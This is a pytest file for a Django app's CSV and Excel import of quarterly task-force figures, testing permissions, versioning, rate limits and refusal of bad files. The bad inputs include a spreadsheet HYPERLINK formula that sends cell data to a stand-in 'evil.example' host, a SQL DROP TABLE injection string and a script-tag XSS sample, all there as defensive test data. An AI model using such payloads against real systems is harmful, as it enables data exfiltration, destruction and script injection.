"""Importing a quarter from the CSV or Excel template: as attacker first, then every bad file, then
the reporter's clean import. A refused import names the row and leaves the report untouched."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from measures import importing, services
from measures.models import Figure, Report, ReportStatus
from tests.factories import make_role
from tests.measures.factories import period, plausible, submitted_report

pytestmark = pytest.mark.django_db

URL = "/measures/2026/q3/import/"


def _csv(rows, header=("code", "name", "value", "explanation"), encoding="utf-8") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    if header:
        writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def _xlsx(rows, header=("code", "name", "value", "explanation")) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _full(period_, **overrides):
    return [(code, "", value, "") for code, value in plausible(period_, **overrides).items()]


def _post(client, data, name="figures.csv", version=None):
    payload = {"file": SimpleUploadedFile(name, data)}
    if version is not None:
        payload["version"] = str(version)
    return client.post(URL, payload)


def _typed(report):
    return dict(Figure.objects.filter(report=report).values_list("measure__code", "raw"))


@pytest.fixture
def quarter():
    return period()


@pytest.fixture
def draft(role_user, quarter):
    """The coordinator's half-typed draft: what a refused import must never lose."""
    coordinator = role_user("coordinator")
    report = services.report_for(coordinator.task_force, quarter)
    services.save(
        coordinator, report, {"arrests": "4", "referrals": "2.5"}, {}, expected_version=report.version
    )
    report.refresh_from_db()
    return coordinator, report


# --- attackers first ---------------------------------------------------------------------------


@pytest.mark.parametrize("role", ["member", "other_task_force_member", "tta_staff", "pending"])
def test_only_a_reporter_imports(role, role_user, client_for, quarter):
    user = role_user(role)
    response = _post(client_for(user), _csv(_full(quarter)))
    assert response.status_code in (302, 403)
    assert not Report.objects.exists() and not Figure.objects.exists()


def test_anonymous_is_sent_to_log_in(client_for, quarter):
    response = _post(client_for(None), _csv(_full(quarter)))
    assert response.status_code == 302 and "login" in response["Location"]
    assert not Report.objects.exists()


def test_another_task_forces_reporter_fills_only_their_own_report(
    role_user, client_for, quarter, other_task_force
):
    coordinator = role_user("coordinator")
    intruder = make_role("coordinator", task_force=other_task_force)
    response = _post(client_for(intruder), _csv(_full(quarter)))
    assert response.status_code == 302
    assert not Report.objects.filter(task_force=coordinator.task_force).exists()
    assert Report.objects.get().task_force == other_task_force


def test_a_submitted_report_is_not_changed_by_an_import(role_user, client_for, quarter):
    coordinator = role_user("coordinator")
    report = submitted_report(coordinator, quarter)
    before = _typed(report)
    response = _post(client_for(coordinator), _csv(_full(quarter, arrests="99")), version=report.version)
    assert response.status_code == 409
    report.refresh_from_db()
    assert report.status == ReportStatus.SUBMITTED and _typed(report) == before


def test_a_closed_period_refuses_an_import(role_user, client_for, quarter):
    coordinator = role_user("coordinator")
    quarter.is_closed = True
    quarter.save()
    response = _post(client_for(coordinator), _csv(_full(quarter)))
    assert response.status_code == 409 and not Figure.objects.exists()


def test_a_stale_version_is_refused_and_nothing_is_lost(draft, client_for, quarter):
    coordinator, report = draft
    response = _post(client_for(coordinator), _csv(_full(quarter)), version=report.version - 1)
    assert response.status_code == 302
    assert _typed(report)["arrests"] == "4"


# --- bad files: refused, every row named, the draft untouched ---------------------------------


def _refused(client, data, name="figures.csv", version=None):
    response = _post(client, data, name, version)
    assert response.status_code == 400, response.status_code
    return response.context["problems"]


BAD_FILES = {
    "wrong columns": (
        lambda p: _csv([("arrests", "5")], header=("measure", "figure")),
        "Row 1",
        "columns must be",
    ),
    "extra column": (
        lambda p: _csv(
            [("arrests", "", "5", "", "x")], header=("code", "name", "value", "explanation", "notes")
        ),
        "Row 1",
        "unknown column",
    ),
    "text in a number": (lambda p: _csv([("arrests", "", "five", "")]), "Row 2", "whole number"),
    "a fraction": (
        lambda p: _csv([("arrests", "", "", ""), ("referrals", "", "2.5", "")]),
        "Row 3",
        "whole number",
    ),
    "a negative": (lambda p: _csv([("arrests", "", "-4", "")]), "Row 2", "negative"),
    "unknown code": (
        lambda p: _csv([("arrests", "", "4", ""), ("murders", "", "1", "")]),
        "Row 3",
        "not a measure",
    ),
    "duplicate code": (
        lambda p: _csv([("arrests", "", "4", ""), ("arrests", "", "5", "")]),
        "Row 3",
        "also on row 2",
    ),
    "formula in CSV": (lambda p: _csv([("arrests", "", "=SUM(A1:A3)", "")]), "Row 2", "formula"),
    "hyperlink formula": (
        lambda p: _csv([("arrests", "", "4", '=HYPERLINK("http://evil.example/?"&A1,"x")')]),
        "Row 2",
        "formula",
    ),
    "latin-1": (
        lambda p: _csv([("arrests", "", "4", "Opération Café")], encoding="latin-1"),
        "Row 2",
        "UTF-8",
    ),
    "utf-16": (lambda p: _csv([("arrests", "", "4", "")], encoding="utf-16"), "Row 1", "UTF-16"),
    "empty": (lambda p: b"", "", "empty"),
    "only blank lines": (lambda p: b"\r\n\r\n,,,\r\n", "", "empty"),
    "header only": (lambda p: _csv([]), "", "No row has a value"),
    "a PDF": (lambda p: b"%PDF-1.7\n" + b"x" * 100, "", "PDF"),
    "a broken workbook": (lambda p: b"PK\x03\x04" + b"\x00" * 200, "", "not an Excel workbook"),
    "a name in an explanation": (
        lambda p: _csv([("arrests", "", "4", "Call 614-555-0199 about it")]),
        "Row 2",
        "phone number",
    ),
    "SQL and script in a code": (
        lambda p: _csv([("'; DROP TABLE measures_figure; --<script>", "", "4", "")]),
        "Row 2",
        "not a measure",
    ),
}


@pytest.mark.parametrize("case", list(BAD_FILES))
def test_a_bad_file_is_refused_with_its_row_and_the_draft_is_kept(case, draft, client_for, quarter):
    coordinator, report = draft
    build, row, words = BAD_FILES[case]
    before = _typed(report)
    problems = _refused(client_for(coordinator), build(quarter), version=report.version)
    assert any(words in p and p.startswith(row) for p in problems), problems
    report.refresh_from_db()
    assert _typed(report) == before and before["arrests"] == "4" and before["referrals"] == "2.5"


def test_hostile_text_is_escaped_on_the_page(draft, client_for, quarter):
    coordinator, report = draft
    response = _post(
        client_for(coordinator), _csv([("<script>alert(1)</script>", "", "4", "")]), version=report.version
    )
    assert response.status_code == 400
    assert b"<script>alert(1)</script>" not in response.content
    assert b"&lt;script&gt;" in response.content


def test_a_huge_file_is_refused_before_it_is_parsed(draft, client_for):
    coordinator, report = draft
    huge = _csv([("arrests", "", "4", "x" * 400)] * 1000)
    assert len(huge) > importing.MAX_BYTES
    problems = _refused(client_for(coordinator), huge, version=report.version)
    assert "limit" in problems[0]
    assert _typed(report)["arrests"] == "4"


def test_too_many_rows_are_refused(quarter):
    rows = [("arrests", "", "1", "")] * (importing.MAX_ROWS + 5)
    with pytest.raises(importing.ImportRefused, match="rows"):
        importing.read_table("f.csv", _csv(rows))


def test_an_excel_formula_cell_is_refused_with_its_row(draft, client_for, quarter):
    coordinator, report = draft
    data = _xlsx([("arrests", "Arrests", 4, ""), ("referrals", "Referrals", "=B2*2", "")])
    problems = _refused(client_for(coordinator), data, name="figures.xlsx", version=report.version)
    assert problems == [p for p in problems if p.startswith("Row 3")] and "formula" in problems[0]


def test_an_excel_date_or_fraction_is_a_wrong_type(quarter):
    import datetime

    table = importing.read_table(
        "f.xlsx", _xlsx([("arrests", "", datetime.date(2026, 1, 2), ""), ("referrals", "", 2.5, "")])
    )
    with pytest.raises(importing.ImportRefused) as refused:
        importing.parse_rows(quarter, table)
    assert [p[:5] for p in refused.value.problems] == ["Row 2", "Row 3"]


def test_many_problems_are_capped(quarter):
    table = importing.read_table("f.csv", _csv([(f"nope-{i}", "", "1", "") for i in range(200)]))
    with pytest.raises(importing.ImportRefused) as refused:
        importing.parse_rows(quarter, table)
    assert len(refused.value.problems) == importing.MAX_PROBLEMS_SHOWN + 1
    assert "150 more" in refused.value.problems[-1]


# --- the clean path -----------------------------------------------------------------------------


def test_the_template_lists_the_period_measures_in_both_formats(role_user, client_for, quarter):
    client = client_for(role_user("member"))
    codes = [m.code for m in services.measures_of(quarter)]
    as_csv = client.get("/measures/2026/q3/template.csv")
    assert as_csv.status_code == 200 and "attachment" in as_csv["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
    assert rows[0] == importing.COLUMNS and [r[0] for r in rows[1:]] == codes
    as_xlsx = client.get("/measures/2026/q3/template.xlsx")
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    assert [c.value for c in sheet[1]] == importing.COLUMNS
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == codes


def test_the_reporters_template_carries_their_draft_and_round_trips(draft, client_for, quarter):
    coordinator, _ = draft
    client = client_for(coordinator)
    template = client.get("/measures/2026/q3/template.xlsx").content
    sheet = load_workbook(io.BytesIO(template)).active
    values = {row[0].value: row[2].value for row in sheet.iter_rows(min_row=2)}
    assert values["arrests"] == "4"
    # A member who is not a reporter gets the blank template: the draft is for its reporters.
    member_template = client_for(make_role("member", task_force=coordinator.task_force)).get(
        "/measures/2026/q3/template.csv"
    )
    assert b",4," not in member_template.content


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_a_reporter_imports_a_clean_file_into_the_draft_which_is_not_submitted(
    kind, draft, client_for, quarter
):
    coordinator, report = draft
    rows = [r for r in _full(quarter) if r[0] != "arrests"]  # arrests left blank: the typed 4 stays
    data = _csv(rows) if kind == "csv" else _xlsx(rows)
    client = client_for(coordinator)
    response = _post(client, data, name=f"f.{kind}", version=report.version)
    assert response.status_code == 302 and response["Location"] == "/measures/2026/q3/"
    report.refresh_from_db()
    typed = _typed(report)
    assert typed["arrests"] == "4" and typed["investigations"] == "10" and typed["referrals"] == "11"
    assert report.status == ReportStatus.DRAFT
    # Importing the same file again (a double POST) with the old version is refused, nothing doubled.
    again = _post(client, data, name=f"f.{kind}", version=report.version - 1)
    assert again.status_code == 302 and Figure.objects.filter(report=report).count() == len(typed)


def test_a_first_import_creates_the_draft_and_the_checks_still_apply(role_user, client_for, quarter):
    coordinator = role_user("coordinator")
    data = _csv(_full(quarter, **{"investigations-sex": "40"}))
    response = _post(client_for(coordinator), data)
    assert response.status_code == 302
    report = Report.objects.get()
    assert _typed(report)["investigations-sex"] == "40"
    checked = services.check_report(report)
    assert checked.problems["investigations-sex"]  # more than its total: flagged on the report page


def test_utf8_with_bom_and_semicolons_in_text_are_read(draft, client_for, quarter):
    coordinator, report = draft
    data = '\ufeffcode,name,value,explanation\r\narrests,Arrests,7,"a joint operation; two counties"\r\n'
    response = _post(client_for(coordinator), data.encode("utf-8"), version=report.version)
    assert response.status_code == 302
    assert _typed(report)["arrests"] == "7"


def test_the_import_page_shows_the_downloads_and_form(draft, client_for, django_assert_max_num_queries):
    coordinator, _ = draft
    client = client_for(coordinator)
    with django_assert_max_num_queries(16):
        page = client.get(URL)
    assert page.status_code == 200
    assert b'for="id_file"' in page.content and b"template.xlsx" in page.content


def test_imports_are_rate_limited_per_reporter(draft, client_for, quarter, settings, monkeypatch):
    from django.core.cache import cache

    from measures import views_import

    cache.clear()
    monkeypatch.setattr(views_import, "IMPORTS_PER_HOUR", 2)
    coordinator, report = draft
    client = client_for(coordinator)
    for _ in range(2):
        assert _post(client, _csv([("nope", "", "1", "")])).status_code == 400
    refused = _post(client, _csv(_full(quarter)))
    assert refused.status_code == 429 and "imports this hour" in refused.context["problems"][0]
    assert _typed(report)["arrests"] == "4"
    cache.clear()
